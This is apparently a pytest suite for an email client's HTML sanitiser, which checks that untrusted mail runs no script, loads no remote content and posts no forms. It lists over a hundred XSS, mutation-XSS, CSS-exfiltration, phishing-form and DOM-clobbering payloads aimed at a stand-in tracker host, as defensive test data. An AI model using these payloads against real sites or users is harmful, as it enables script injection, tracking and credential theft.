"""A stranger's HTML can be looked at: it runs nothing, loads nothing, covers nothing and sends nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inbound.display import MAX_HTML_CHARACTERS, frame_document, message_frame_csp, sanitise_html

REMOTE = "https://tracker.example/x"

PAYLOADS = [
    # scripts
    "<script>steal()</script>",
    "<SCRIPT SRC=https://tracker.example/x></SCRIPT>",
    "<script",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script/src=https://tracker.example/x>",
    "</p><script>steal()</script>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<template><script>steal()</script></template>",
    "<xmp><script>steal()</script></xmp>",
    "<plaintext><script>steal()",
    "<textarea><script>steal()</script></textarea><img src=x onerror=steal()>",
    "<title><img src=x onerror=steal()></title>",
    "<!--><script>steal()</script>-->",
    "<!-- --!><script>steal()</script> -->",
    "<![CDATA[<script>steal()</script>]]>",
    "<?xml version='1.0'?><script>steal()</script>",
    # events
    "<img src=x onerror=steal()>",
    "<img src=x OnErRoR = steal()>",
    "<img/src=x/onerror=steal()>",
    "<img src=x onerror\n=steal()>",
    "<img src=`x`onerror=steal()>",
    "<img title='a' src='x'onerror='steal()'>",
    "<body onload=steal()>",
    "<p onmouseover=steal() style='width:100%'>hello",
    "<details open ontoggle=steal()>x</details>",
    "<a href='https://x.example' onclick=steal()>x</a>",
    "<div onpointerenter=steal() onfocus=steal() tabindex=0 autofocus contenteditable>x</div>",
    "<marquee onstart=steal()>x</marquee>",
    "<video onloadstart=steal() src=x></video>",
    "<audio src=x onerror=steal()>",
    # addresses
    "<a href='javascript:steal()'>x</a>",
    "<a href='JaVaScRiPt:steal()'>x</a>",
    "<a href=' javascript:steal()'>x</a>",
    "<a href='java\tscript:steal()'>x</a>",
    "<a href='java\nscript:steal()'>x</a>",
    "<a href='&#106;avascript:steal()'>x</a>",
    "<a href='&#x6A&#x61;vascript:steal()'>x</a>",
    "<a href='\x01javascript:steal()'>x</a>",
    "<a href='vbscript:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//tracker.example'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<a href='?images=1'>x</a>",
    "<a href='#top'>x</a>",
    "<a href='https://x.example' target=_top rel=opener ping=https://tracker.example/x>x</a>",
    "<a href='https://x.example' download=evil.exe>x</a>",
    "<img src='javascript:steal()'>",
    "<img src='data:image/svg+xml,<svg onload=steal()>'>",
    # loads
    f"<img src='{REMOTE}'>",
    f"<img srcset='{REMOTE} 1x' src='{REMOTE}'>",
    f"<img lowsrc='{REMOTE}' dynsrc='{REMOTE}'>",
    f"<picture><source srcset='{REMOTE}'><img></picture>",
    f"<body background='{REMOTE}'>",
    f"<table background='{REMOTE}'><tr><td background='{REMOTE}'>x</table>",
    f"<link rel=stylesheet href='{REMOTE}'>",
    f"<link rel='dns-prefetch preload prefetch' href='{REMOTE}'>",
    f"<style>@import '{REMOTE}';</style>",
    f"<style>body {{ background: url({REMOTE}) }}</style>",
    f"<p style='background: url({REMOTE})'>x",
    f"<p style='background-image: image-set(\"{REMOTE}\" 1x)'>x",
    f"<p style='list-style: url({REMOTE})'>x",
    f"<p style='color: red; background-color: url({REMOTE})'>x",
    f"<p style='font-family: \\75\\72\\6c({REMOTE})'>x",
    f"<p style='--a: url({REMOTE}); color: var(--a)'>x",
    f"<p style='content: url({REMOTE}); cursor: url({REMOTE}), auto'>x",
    "<p style='width: expression(steal())'>x",
    "<p style='behavior: url(#x); -moz-binding: url(x)'>x",
    f"<iframe src='{REMOTE}'></iframe>",
    "<iframe srcdoc='<script>parent.steal()</script>'></iframe>",
    f"<object data='{REMOTE}'></object>",
    f"<embed src='{REMOTE}'>",
    f"<applet code='{REMOTE}'></applet>",
    f"<video poster='{REMOTE}' src='{REMOTE}'><track src='{REMOTE}'></video>",
    f"<input type=image src='{REMOTE}'>",
    f"<frameset><frame src='{REMOTE}'></frameset>",
    f"<blockquote cite='{REMOTE}'>x</blockquote>",
    # other worlds
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:steal() /><a id=x><text>x</text></a></svg>",
    f"<svg><image href='{REMOTE}'/></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mi xlink:href='javascript:steal()'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=steal()&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=steal() src=x>'>",
    "<svg></p><style><a id='</style><img src=x onerror=steal()>'>",
    # takeovers
    "<base href='https://tracker.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://tracker.example/x'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<form action=https://tracker.example/x><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:steal()'>x</button>",
    "<isindex action='javascript:steal()' type=image>",
    "<p style='position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 9'>x",
    "<p style='position: absolute; opacity: 0; transform: scale(99)'>x",
    "<p id=location name=body class=btn>x",
    "<a id=defaultView name=cookie href='https://x.example'>x</a>",
    "<img name=getElementById data-blocked='javascript:steal()' data-cid=x>",
    # what the rewriting of images could be talked into
    "<img alt='<img src=x onerror=steal()>' src='https://tracker.example/x'>",
    "<img alt=' src=' title='x onerror=steal() '>",
    "<img alt='\"&gt;<img src=x onerror=steal()>'>",
    "<p title='<img src=https://tracker.example/x>'>x",
    "<p title='&lt;img src=&quot;https://tracker.example/x&quot;&gt;'>x",
    "<img src='https://tracker.example/\"onerror=\"steal()'>",
    "<img src='https://tracker.example/&quot; onerror=&quot;steal()'>",
    "<img src='cid:\"onerror=\"steal()'>",
    "<img src='https://tracker.example/>x'>",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "<a href='https://x.example/&quot;&gt;&lt;script&gt;steal()&lt;/script&gt;'>x</a>",
    "\0<script>steal()</script>\ufeff",
    "<p\0 onclick=steal()>x",
    "<img src=x onerror=steal()//",
    "< script >steal()</ script >",
]

TAGS = {
    *(
        "a",
        "b",
        "blockquote",
        "br",
        "center",
        "col",
        "colgroup",
        "details",
        "div",
        "em",
        "font",
        "h1",
        "hr",
        "img",
        "p",
    ),
    *("span", "strong", "table", "tbody", "td", "th", "tr", "u", "ul", "li", "summary"),
}
ATTRIBUTES = {"href", "rel", "target", "alt", "title", "width", "height", "style", "align", "data-blocked", "data-cid"}


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.found.append(("a comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("a declaration", {}))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES, html
        if "href" in attributes:
            assert attributes["href"].startswith(("https://", "http://", "mailto:")), html
        if tag == "a":
            assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")
        style = attributes.get("style", "").lower()
        assert not re.search(r"url|position|opacity|expression|image|\\|z-index|@|content|cursor|var\(", style), html


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_that_acts_is_left(payload: str) -> None:
    assert_harmless(sanitise_html(payload))
    assert_harmless(sanitise_html(f"<table><tr><td>{payload}</table>"))
    assert_harmless(sanitise_html(sanitise_html(payload)))


def test_there_are_more_than_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


FRAGMENTS = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<img ",
            "src=",
            "'https://x.example'",
            '"',
            "'",
            ">",
            "<",
            "onerror=steal()",
            " ",
            "/",
            "=",
            "&quot;",
        ),
        *(
            "<a ",
            "href=",
            "javascript:",
            "<svg>",
            "<math>",
            "<style>",
            "</style>",
            "<!--",
            "-->",
            "<script>",
            "</script>",
        ),
        *(
            "alt=",
            "title=",
            "style=",
            "url(",
            "\\",
            ";",
            "<table>",
            "<td>",
            "<mtext>",
            "<title>",
            "<textarea>",
            "cid:",
            "\0",
            "x",
        ),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30))
def test_nothing_that_acts_is_left_of_any_jumble(fragments: list[str]) -> None:
    assert_harmless(sanitise_html("".join(fragments)))


def test_what_people_write_stays() -> None:
    html = (
        '<div align="center"><h1>Hi</h1><p style="color:red;margin:4px">a <b>b</b><br>c</p>'
        "<table><tbody><tr><td>1</td></tr></tbody></table></div>"
    )
    assert sanitise_html(html) == html


def test_only_the_unsafe_declaration_of_a_style_goes() -> None:
    cleaned = sanitise_html("<p style='color:red;background:url(x);font-size:12px;position:fixed'>x</p>")
    (paragraph,) = Elements(cleaned).found
    assert paragraph[1]["style"].replace(" ", "").rstrip(";").split(";") == ["color:red", "font-size:12px"]


def test_a_remote_image_waits_and_an_inline_one_is_marked() -> None:
    cleaned = sanitise_html('<img src="https://x.example/a.png?a=1&amp;b=2" alt="logo"><img src="cid:logo@x">')
    assert Elements(cleaned).found == [
        ("img", {"data-blocked": "https://x.example/a.png?a=1&b=2", "alt": "logo"}),
        ("img", {"data-cid": "logo@x"}),
    ]


def test_a_frame_loads_images_only_when_asked_to() -> None:
    html = '<img src="https://x.example/a.png"><img src="cid:logo@x"><p title=" data-blocked=&quot;x&quot;">x</p>'
    without, with_images = frame_document(html, allow_images=False), frame_document(html, allow_images=True)
    assert " src=" not in without
    assert [each for each in Elements(with_images).found if each[0] == "img"] == [
        ("img", {"src": "https://x.example/a.png"}),
        ("img", {"data-cid": "logo@x"}),
    ]


@pytest.mark.parametrize("allow_images", [False, True])
def test_a_frame_is_a_document_with_its_own_policy(allow_images: bool) -> None:
    document = frame_document("<p>x", allow_images=allow_images)
    policies = [
        attributes["content"]
        for tag, attributes in Elements(document).found
        if tag == "meta" and attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policies == [message_frame_csp(allow_images=allow_images)]
    assert document.startswith("<!doctype html>")
    assert document.index("Content-Security-Policy") < document.index("<style>") < document.index("<p>x")


def test_the_policy_forbids_what_it_does_not_name() -> None:
    policy = dict(each.split(" ", 1) for each in message_frame_csp(allow_images=False).split("; "))
    assert policy == {
        "default-src": "'none'",
        "img-src": "data:",
        "style-src": "'unsafe-inline'",
        "script-src": "'none'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }


@pytest.mark.parametrize(
    "html",
    ["<div>" * 50_000, "<b><i>" * 20_000, "<div></x>" * 20_000, "<table><tr><td>" * 10_000],
    ids=["div", "b", "foreign ends", "table"],
)
def test_what_is_nested_without_end_is_shown_as_text(html: str) -> None:
    cleaned = sanitise_html(html + "the text")
    assert [tag for tag, _ in Elements(cleaned).found] == ["p"]
    assert "the text" in cleaned


def test_a_long_mail_is_cut() -> None:
    assert len(sanitise_html("x" * 1_000_000)) == MAX_HTML_CHARACTERS
